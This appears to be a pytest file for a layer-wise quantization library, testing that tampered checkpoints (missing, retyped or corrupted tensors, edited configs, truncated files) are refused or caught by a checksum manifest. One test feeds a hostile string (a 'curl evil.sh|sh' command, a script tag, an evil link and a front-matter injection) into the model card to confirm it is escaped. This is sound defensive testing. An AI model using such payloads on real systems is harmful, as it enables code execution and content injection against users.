"""A changed, missing or retyped tensor is found at load (headers) or by the sha256 manifest (bytes); a model card
never carries markup from user strings."""

from __future__ import annotations

import json

import pytest
import torch
from huggingface_hub import ModelCard
from tamper import edit_config, edit_header, edit_tensors, quantize
from transformers import AutoModelForCausalLM

from optimum_layerwise import LayerwiseQuantizationConfig
from optimum_layerwise.cli import main
from optimum_layerwise.utils.checksums import CHECKSUMS_NAME, safetensors_header, verify_checksums


@pytest.fixture
def saved(tiny_checkpoint, tmp_path):
    folder = tmp_path / "q"
    quantize(tiny_checkpoint).save_pretrained(folder)
    return folder


def retype(name, dtype):
    def edit(header):
        header[name]["dtype"] = dtype

    return edit


def drop(name):
    return lambda tensors: tensors.pop(name)


CHANGES = {
    "lm_head removed": (edit_tensors, drop("lm_head.weight"), "lm_head.weight is missing"),
    "embeddings removed": (edit_tensors, drop("model.embed_tokens.weight"), "model.embed_tokens.weight is missing"),
    "norm removed": (edit_tensors, drop("model.layers.1.input_layernorm.weight"), "input_layernorm.weight is missing"),
    "embeddings retyped": (
        edit_header,
        retype("model.embed_tokens.weight", "I32"),
        "model.embed_tokens.weight is (128, 64) I32, the model needs (128, 64) float",
    ),
    "scale retyped": (
        edit_header,
        retype("model.layers.2.mlp.up_proj.weight_scale", "I16"),  # as many bytes as its float16
        "model.layers.2.mlp.up_proj.weight_scale is (320, 1) I16",
    ),
    "norm reshaped": (
        edit_tensors,
        lambda tensors: tensors.update({"model.norm.weight": torch.ones(32)}),
        "model.norm.weight is (32,) F32, the model needs (64,) float",
    ),
}


@pytest.mark.parametrize("case", sorted(CHANGES))
def test_a_changed_tensor_is_refused_at_load(saved, case):
    rewrite, change, message = CHANGES[case]
    rewrite(saved, change)
    with pytest.raises(ValueError, match="does not match its model and quantization_config") as error:
        AutoModelForCausalLM.from_pretrained(saved)
    assert message in str(error.value)


def test_a_tied_lm_head_is_not_required(tmp_path):
    from conftest import build_tiny_model, build_tiny_tokenizer

    source = tmp_path / "tied"
    build_tiny_model(tie_word_embeddings=True).save_pretrained(source)
    build_tiny_tokenizer().save_pretrained(source)
    quantize(str(source)).save_pretrained(tmp_path / "q")
    model = AutoModelForCausalLM.from_pretrained(tmp_path / "q")
    assert model.lm_head.weight.data_ptr() == model.model.embed_tokens.weight.data_ptr()


def corrupt_bytes(folder, name):
    """Set every byte of tensor `name` to 0xFF in place (the header stays valid: only a checksum can tell)."""
    path = folder / "model.safetensors"
    header, start = safetensors_header(path)
    begin, end = header[name]["data_offsets"]
    data = bytearray(path.read_bytes())
    data[start + begin : start + end] = b"\xff" * (end - begin)
    path.write_bytes(bytes(data))


def test_corrupted_bytes_are_found_by_the_manifest(saved, capsys):
    tokens = torch.tensor([[5, 6, 7]])
    intact = AutoModelForCausalLM.from_pretrained(saved)(tokens).logits
    assert (saved / CHECKSUMS_NAME).is_file() and verify_checksums(saved) == []
    assert main(["inspect", str(saved), "--verify"]) == 0
    assert "checksums: every tensor and config.json match" in capsys.readouterr().out
    corrupt_bytes(saved, "model.layers.0.self_attn.q_proj.weight_scale")
    assert verify_checksums(saved) == [
        "model.safetensors: tensor model.layers.0.self_attn.q_proj.weight_scale differs from the saved one"
    ]
    assert main(["inspect", str(saved), "--verify"]) == 1
    assert "checksum verification failed" in capsys.readouterr().err
    with pytest.raises(ValueError, match="Checksum verification failed: .*q_proj.weight_scale differs"):
        AutoModelForCausalLM.from_pretrained(saved, quantization_config=LayerwiseQuantizationConfig(verify=True))
    logits = AutoModelForCausalLM.from_pretrained(saved)(tokens).logits
    assert not torch.allclose(logits, intact)  # what an unverified load of these bytes gives, without a word


def reinterpret(name, dtype=None, reverse_shape=False):
    """Read the bytes of tensor `name` as another dtype of the same width, or with its shape reversed."""

    def edit(header):
        if dtype is not None:
            header[name]["dtype"] = dtype
        if reverse_shape:
            header[name]["shape"] = header[name]["shape"][::-1]

    return edit


HEADER_CHANGES = {
    # the same bytes as another model: the loader's header check accepts both, only the manifest can tell
    "scale as bfloat16": (
        reinterpret("model.layers.2.mlp.up_proj.weight_scale", dtype="BF16"),
        "tensor model.layers.2.mlp.up_proj.weight_scale has dtype BF16, saved as F16",
    ),
    "packed weight reshaped": (
        reinterpret("model.layers.1.self_attn.o_proj.weight", reverse_shape=True),
        "tensor model.layers.1.self_attn.o_proj.weight has shape",
    ),
}


@pytest.mark.parametrize("case", sorted(HEADER_CHANGES))
def test_the_same_bytes_read_another_way_are_found_by_the_manifest(saved, case, capsys):
    change, message = HEADER_CHANGES[case]
    edit_header(saved, change)
    (problem,) = verify_checksums(saved)
    assert message in problem
    assert main(["inspect", str(saved), "--verify"]) == 1
    assert message in capsys.readouterr().err
    with pytest.raises(ValueError, match="Checksum verification failed"):
        AutoModelForCausalLM.from_pretrained(saved, quantization_config=LayerwiseQuantizationConfig(verify=True))


def test_header_metadata_is_covered_and_version_1_manifests_still_verify(saved):
    edit_header(saved, lambda header: header["__metadata__"].update(format="tf"))
    assert verify_checksums(saved) == ["model.safetensors: the header metadata differs from the saved one"]
    edit_header(saved, lambda header: header["__metadata__"].update(format="pt"))
    manifest = json.loads((saved / CHECKSUMS_NAME).read_text())
    del manifest["version"]
    manifest["tensors"] = {  # as written before dtypes, shapes and metadata were recorded
        file: {name: entry["sha256"] for name, entry in tensors.items() if name != "__metadata__"}
        for file, tensors in manifest["tensors"].items()
    }
    (saved / CHECKSUMS_NAME).write_text(json.dumps(manifest))
    assert verify_checksums(saved) == []
    corrupt_bytes(saved, "model.layers.0.self_attn.q_proj.weight_scale")
    assert verify_checksums(saved) == [
        "model.safetensors: tensor model.layers.0.self_attn.q_proj.weight_scale differs from the saved one"
    ]


def test_an_edited_config_is_found_by_the_manifest(saved):
    edit_config(saved, lambda config: config.update(importance="random"))
    assert verify_checksums(saved) == ["config.json was modified"]


def test_verify_at_load_passes_on_an_intact_checkpoint(saved, tiny_checkpoint):
    model = AutoModelForCausalLM.from_pretrained(saved, quantization_config=LayerwiseQuantizationConfig(verify=True))
    reference = AutoModelForCausalLM.from_pretrained(saved)
    tokens = torch.tensor([[5, 6, 7]])
    assert torch.equal(model(tokens).logits, reference(tokens).logits)


def test_layer_bits_null_says_the_checkpoint_is_unfinished(saved):
    edit_config(saved, lambda config: config.update(plan=None))
    with pytest.raises(ValueError, match="has no `plan`: it was not saved after quantization"):
        AutoModelForCausalLM.from_pretrained(saved)


def test_an_edited_quant_method_is_refused(saved):
    edit_config(saved, lambda config: config.update(quant_method="quanto"))
    with pytest.raises(ValueError, match="written by optimum-layerwise .* says quant_method='quanto'"):
        AutoModelForCausalLM.from_pretrained(saved)


HOSTILE = "x |\n\n## Usage\n\n```bash\ncurl evil.sh|sh\n```\n<script>alert(1)</script> [click](http://evil)"


def test_user_strings_cannot_inject_markup_into_the_card(tiny_checkpoint, tmp_path):
    model = quantize(tiny_checkpoint)
    model.layerwise_eval_results = {HOSTILE: HOSTILE, "ok": 1.5}
    model.model_tags = ["fine-tag", "bad tag\n---\nlicense: evil"]
    model.config.architectures = [HOSTILE]
    model.save_pretrained(tmp_path / "q")
    card = ModelCard((tmp_path / "q" / "README.md").read_text())
    marker, _, text = card.text.partition("-->")  # the data comment holds the results as JSON, for re-saves
    assert "<" not in marker[4:] and ">" not in marker
    assert [line for line in text.splitlines() if line.startswith("## ")].count("## Usage") == 1
    assert "```bash\ncurl" not in text and "<script>" not in text
    assert "[click](" not in text and "\\[click\\](" in text and "&lt;script&gt;" in text
    assert "fine-tag" in card.data.tags and not any("evil" in tag for tag in card.data.tags)
    assert card.data.to_dict().get("license") is None
    # and a re-save of the loaded checkpoint keeps the results, still escaped
    again = AutoModelForCausalLM.from_pretrained(tmp_path / "q")
    assert again.layerwise_eval_results[HOSTILE] == HOSTILE
    again.save_pretrained(tmp_path / "again")
    assert "<script>" not in (tmp_path / "again" / "README.md").read_text()


def test_a_planted_base_model_is_dropped(saved):
    readme = saved / "README.md"
    text = readme.read_text().replace(
        "library_name: transformers", "base_model: '<b>x</b>/y'\nlibrary_name: transformers"
    )
    readme.write_text(text)
    model = AutoModelForCausalLM.from_pretrained(saved)
    assert model.layerwise_base_model is None
    json.loads((saved / "config.json").read_text())  # untouched


@pytest.mark.parametrize(
    "edit, message",
    [
        (
            lambda plan: plan["modules"].pop("model.layers.2.mlp.up_proj"),
            r"not in the plan: \['model.layers.2.mlp.up_proj'\]",
        ),
        (
            lambda plan: plan["modules"].update(
                {"model.layers.9.mlp.up_proj": {"bits": 4, "group_size": 32, "sym": False}}
            ),
            r"not in the model: \['model.layers.9.mlp.up_proj'\]",
        ),
        (
            lambda plan: plan["modules"]["model.layers.0.mlp.up_proj"].update(sym="no"),
            r"\['sym'\]` must be True or False",
        ),
        (lambda plan: plan.update(format=3), "format 2, got format 3"),
    ],
)
def test_a_plan_that_does_not_match_the_model_is_refused(saved, edit, message):
    edit_config(saved, lambda config: edit(config["plan"]))
    with pytest.raises(ValueError, match=message):
        AutoModelForCausalLM.from_pretrained(saved)


@pytest.mark.parametrize("length", ["half", "empty"])
def test_a_truncated_weights_file_is_named(saved, length):
    path = saved / "model.safetensors"
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2] if length == "half" else b"")
    expected = "is truncated: its header announces" if length == "half" else "is not a safetensors file"
    with pytest.raises(ValueError, match=f"model.safetensors {expected}"):
        AutoModelForCausalLM.from_pretrained(saved)


def test_an_edited_layers_path_is_named(saved):
    edit_config(saved, lambda config: config["plan"].update(layers_path="model.blocks"))
    with pytest.raises(ValueError, match=r"`plan.layers_path`='model.blocks'; this model has them at 'model.layers'"):
        AutoModelForCausalLM.from_pretrained(saved)


def test_verify_on_an_unquantized_model_says_so(tiny_checkpoint):
    with pytest.raises(
        ValueError, match="verify=True checks a saved layer-wise checkpoint .* not layer-wise quantized"
    ):
        AutoModelForCausalLM.from_pretrained(
            tiny_checkpoint, quantization_config=LayerwiseQuantizationConfig(verify=True)
        )
